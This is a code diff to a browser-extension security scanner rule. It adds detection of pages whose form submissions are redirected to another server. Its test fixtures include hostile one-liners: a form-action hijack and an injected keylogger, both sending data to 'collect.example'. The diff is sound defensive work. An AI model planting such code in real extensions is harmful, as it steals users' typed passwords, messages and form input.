@@ -2,6 +2,7 @@ import { flowsOf } from '../../flows/flowsOf.ts';
 import { hitsOfFlows, milder, OPENED, sentence, staysHere, type Weight } from '../../flows/hits.ts';
 import type { Severity } from '../../../model/finding.ts';
 import type { Flow } from '../../flows/flow.ts';
+import { placeAt, show } from '../../facts/javascript/query.ts';
 import type { SourceKind } from '../../flows/kinds.ts';
 import { sample } from '../../flows/sample.ts';
 import { defineRule } from '../../rule.ts';
@@ -43,9 +44,27 @@ export default defineRule({
   why: 'Keys, form fields, the clipboard or the content of pages leave the browser. Passwords, messages and bank pages look the same to such code.',
   remedy:
     'Send page content only when the person asks for it, only what is needed, and never from password or payment fields.',
-  check: (facts) => hitsOfFlows(facts.whole(flowsOf).flows, weigh),
+  *check(facts) {
+    const { flows, forms = [] } = facts.whole(flowsOf);
+    yield* hitsOfFlows(flows, weigh);
+    for (const { unit, pos, value, to } of forms) {
+      const place = placeAt(unit.script, unit.file.path, pos);
+      yield {
+        place,
+        evidence: show(unit.script, value),
+        message: `What is typed into a form of the page is sent to ${to.slice(0, 80)} instead.`,
+        path: [
+          { place, label: 'what is typed into a form of the page' },
+          { place, label: 'is sent to another server' },
+        ],
+      };
+    }
+  },
   examples: {
     bad: [
+      sample({
+        content: "document.querySelectorAll('form').forEach((f) => { f.action = 'https://collect.example/f'; });",
+      }),
       sample({
         background:
           'chrome.tabs.onUpdated.addListener((id) => { chrome.tabs.executeScript(id, { code: \'document.addEventListener("keydown", (e) => { fetch("https://collect.example/k?" + e.key); });\' }); });',
@@ -120,6 +139,10 @@ export default defineRule({
       }),
     ],
     good: [
+      sample({
+        content:
+          "const f = document.createElement('form'); f.action = 'https://feedback.example/f'; document.body.append(f); document.forms[0].action = '/search';",
+      }),
       sample({
         content:
           "const own = document.createElement('form'); own.innerHTML = '<input name=note>'; own.onsubmit = () => { chrome.storage.local.set({ note: own.elements.note.value }); fetch('https://api.example/ping', { method: 'POST' }); };",
